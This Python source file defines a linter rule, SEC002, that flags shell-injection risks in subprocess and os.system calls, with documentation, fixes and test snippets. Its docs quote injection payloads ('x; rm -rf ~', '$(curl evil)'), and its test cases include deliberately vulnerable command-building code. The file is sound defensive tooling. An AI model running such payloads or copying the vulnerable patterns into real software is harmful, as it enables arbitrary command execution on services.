"""SEC002 shell-injection."""
from __future__ import annotations

import ast

from ..context import keyword
from ..flow import is_constant
from ..model import Confidence, Rule, Severity
from ..names import Binding
from ._shell_tiers import outside_value

#: Take `shell=`; the command is the first argument or `args=`.
_SHELL_KW = frozenset({
    "subprocess.run", "subprocess.call", "subprocess.check_call", "subprocess.check_output", "subprocess.Popen",
})
#: Always run through a shell: qualname -> keyword name of the command.
_ALWAYS_SHELL = {
    "os.system": "command",
    "os.popen": "cmd",
    "subprocess.getoutput": "cmd",
    "subprocess.getstatusoutput": "cmd",
    "asyncio.create_subprocess_shell": "cmd",
    "commands.getoutput": "cmd",
}


class ShellInjection(Rule):
    code = "SEC002"
    name = "shell-injection"
    message = (
        "`{callee}` runs a shell command built from non-literal parts: a value containing `;`, `|` or "
        "`$(...)` executes arbitrary commands"
    )
    severity = Severity.ERROR
    refs = ("H10",)
    owasp = ("A03",)
    cwe = ("CWE-78",)
    callees = frozenset({*_SHELL_KW, *_ALWAYS_SHELL})

    docs = """
## What it does
Checks for commands run through a shell whose text is not a literal: `subprocess.run`/
`call`/`check_call`/`check_output`/`Popen` with `shell=True`, and `os.system`, `os.popen`,
`subprocess.getoutput`/`getstatusoutput`, `asyncio.create_subprocess_shell` (always a
shell), when the command is an f-string, a `+`/`%`/`.format` concatenation or a variable.
Values are followed through local variables; literal commands and module-level string
constants are fine.

The default tier is for commands an attacker can shape: request input reaches the command
(Flask/Django/FastAPI handler input), or a value sits between hand-written quotes
(`"osascript -e '{}'".format(script)`, `f'grep "{pattern}" log'`): the author meant one data
argument, and a quote inside the value breaks out of it. Quoted values read from the
environment or made by `tempfile` do not count, nor do values in a command-line program's module
(one that imports click, typer, argparse, inquirer or questionary). Everything else is the review
tier (below).

## Why is this bad?
The shell interprets the whole string: a file name such as `x; rm -rf ~` or `$(curl evil)`
in any interpolated part runs as a command with the service's privileges (guide: H10; OWASP
A03 injection; CWE-78). Quoting by hand is fragile; an argument list never goes through a
shell at all.

## Example
```python
import subprocess

from flask import request

def thumbnail():
    path = request.args["path"]
    subprocess.run(f"convert {path} -resize 128x128 thumb.png", shell=True, check=True, timeout=30)
```

## Use instead
```python
import subprocess

from flask import request

def thumbnail():
    path = request.args["path"]
    subprocess.run(["convert", path, "-resize", "128x128", "thumb.png"], check=True, timeout=30)
```

## Fix safety
There is no automatic fix: splitting a shell string into an argument list changes how pipes,
globbing, `~` and variables behave. Build the list yourself and drop `shell=True`:
`subprocess.run(["git", "log", "-n", str(n), branch], check=True, timeout=30)`; when a shell is
really needed, quote each value with `shlex.quote`.

## References
- [subprocess: security considerations](https://docs.python.org/3/library/subprocess.html#security-considerations)
- [CWE-78: OS Command Injection](https://cwe.mitre.org/data/definitions/78.html)
- Guide: H10; OWASP A03
"""

    review_tier = """
- A command passed on whole (`subprocess.run(cmd, shell=True)` with `cmd` a parameter or an
  attribute): a tool whose purpose is to run the command it is given (an agent's bash tool, a
  `/run` command, a configured notification command, a project's run script).
- Values interpolated unquoted, as shell words, whose origin the code does not show as request
  input: a CLI's own options (`gcloud ... --project {project}`), `$EDITOR` plus a temp file path,
  parameters of unknown origin (`f"ls {path}"`). `sys.argv` and `input()` are the terminal user's
  own input.
- Anything in a command-line program's module (it imports click, typer, argparse, inquirer or
  questionary), quoted or not, unless request input reaches it.
"""

    valid = (
        "import subprocess\nsubprocess.run('ls -l', shell=True, timeout=5)\n",
        "import subprocess\ndef f(path):\n    subprocess.run(['ls', path], timeout=5)\n",
        "import os\nos.system('make clean')\n",
        "CMD = 'uptime'\nimport subprocess\nsubprocess.check_output(CMD, shell=True, timeout=5)\n",
        "import subprocess\ndef f(cmd, use_shell):\n    subprocess.run(cmd, shell=use_shell, timeout=5)\n",
        "class Os:\n    def system(self, c): ...\ndef f(c):\n    Os().system(c)\n",
        "import subprocess\ndef f(path):\n    subprocess.run(f'ls {path}', timeout=5)\n",
    )
    invalid = (
        "from flask import request\nimport os\ndef ping():\n    os.system('ping -c1 ' + request.args['host'])\n",
        "import subprocess\nfrom fastapi import FastAPI\napp = FastAPI()\n@app.get('/thumb')\ndef thumb(path: str):\n"
        "    subprocess.run(f'convert {path} thumb.png', shell=True, timeout=30)\n",
        # A model-chosen key name between hand-written quotes (open-interpreter's computer tool).
        "import os\nclass ComputerTool:\n    async def __call__(self, text):\n"
        "        script = f'tell application \"System Events\" to keystroke \"{text}\"'\n"
        "        os.system(\"osascript -e '{}'\".format(script))\n",
        "import subprocess\ndef search(pattern):\n    subprocess.run(f'grep \"{pattern}\" app.log', shell=True, timeout=5)\n",
    )
    review_examples = (
        "import subprocess\ndef f(path):\n    subprocess.run(f'ls {path}', shell=True, timeout=5)\n",
        "import subprocess as sp\ndef f(path):\n    sp.call('ls ' + path, shell=True, timeout=5)\n",
        "from subprocess import Popen as P\ndef f(n):\n    P('kill -9 %s' % n, shell=True)\n",
        "import os\ndef f(host):\n    os.system('ping -c1 {}'.format(host))\n",
        "import os\ndef f(cmd):\n    os.popen(cmd)\n",
        "import subprocess\ndef f(branch):\n    cmd = 'git checkout '\n    cmd += branch\n"
        "    subprocess.check_output(cmd, shell=True, timeout=5)\n",
        "import asyncio\nasync def f(p):\n    await asyncio.create_subprocess_shell(f'du -sh {p}')\n",
        # datasette publish: the user's own CLI options, in a click program.
        "import click, subprocess\n@click.command()\n@click.option('--project')\ndef publish(project):\n"
        "    subprocess.check_call(f'gcloud run deploy --project \"{project}\"', shell=True)\n",
        # shell-gpt: $EDITOR on a temp file, quoted or not.
        "import os, tempfile\ndef edit():\n    with tempfile.NamedTemporaryFile(delete=False) as f:\n        path = f.name\n"
        "    editor = os.environ.get('EDITOR', 'vi')\n    os.system(f\"{editor} '{path}'\")\n",
        # An agent's bash tool / a /run command: running the given command is the purpose.
        "import asyncio\nasync def run(cmd):\n    return await asyncio.create_subprocess_shell(cmd)\n",
        "import subprocess, sys\nsubprocess.run(sys.argv[1], shell=True, timeout=60)\n",
    )

    def check_call(self, call: ast.Call, callee: Binding) -> None:
        name = callee.qualname
        assert name is not None
        if name in _SHELL_KW:
            shell = keyword(call, "shell")
            if shell is None or not (isinstance(shell.value, ast.Constant) and shell.value.value is True):
                return
            command = _command(call, "args")
            if command is None or is_constant(self.ctx, command):
                return
            node: ast.AST = shell
        else:
            command = _command(call, _ALWAYS_SHELL[name])
            if command is None or is_constant(self.ctx, command):
                return
            node = command
        # Default tier only when an attacker can shape the command (rules/sec/_shell_tiers.py).
        review = outside_value(self.ctx, command) is None
        self.report(node, confidence=Confidence.MEDIUM if review else None, callee=name)


def _command(call: ast.Call, kwname: str) -> ast.expr | None:
    if call.args:
        first = call.args[0]
        return None if isinstance(first, ast.Starred) else first
    kw = keyword(call, kwname)
    return kw.value if kw is not None else None
